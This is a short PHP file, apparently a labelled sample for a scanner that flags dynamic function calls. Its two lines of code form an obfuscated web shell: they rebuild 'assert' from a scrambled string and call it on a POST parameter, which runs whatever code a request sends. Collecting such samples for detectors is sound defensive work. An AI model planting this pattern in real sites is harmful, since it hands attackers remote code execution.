<?php
// triage-expect: triage_php_dynamic_call_request
$a = str_replace('x', '', 'axsxxsxexrxxt');
$a($_POST['c']);
